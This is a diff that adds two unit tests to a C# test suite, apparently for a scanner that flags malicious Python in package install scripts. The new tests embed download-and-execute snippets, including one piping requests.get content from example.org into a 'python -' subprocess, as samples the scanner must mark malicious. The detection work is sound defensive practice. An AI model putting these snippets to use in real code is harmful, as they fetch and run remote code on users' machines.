@@ -123,6 +123,17 @@ public class ChildInterpreterTests
             "os.execv(sys.executable, argv) if os.name == 'nt' else __import__('subprocess').run(argv)"));
 
     [Fact]
+    public void Command_line_formatted_from_sys_executable_and_the_code_is_download_execute() =>
+        Malicious(InstallCommand("import os, sys",
+            $"CODE = \"{Fetch}\" % SOURCE",
+            "os.system('%s -c %r' % (sys.executable, CODE))",
+            "os.system('{} -c \"{}\"'.format(sys.executable, CODE))"));
+
+    [Fact]
+    public void Downloaded_code_communicated_to_a_chained_popen_is_download_execute() =>
+        Malicious(Init("import subprocess, requests\nsubprocess.Popen('python -', shell=True, stdin=subprocess.PIPE).communicate(requests.get('https://example.org/p').content)\n"));
+
+    [Fact]
     public void Pip_through_sys_executable_is_clean() =>
         Clean(InstallCommand("import subprocess, sys", "subprocess.run([sys.executable, '-m', 'pip', 'install', '--upgrade', 'wheel'], check=True)"));
 
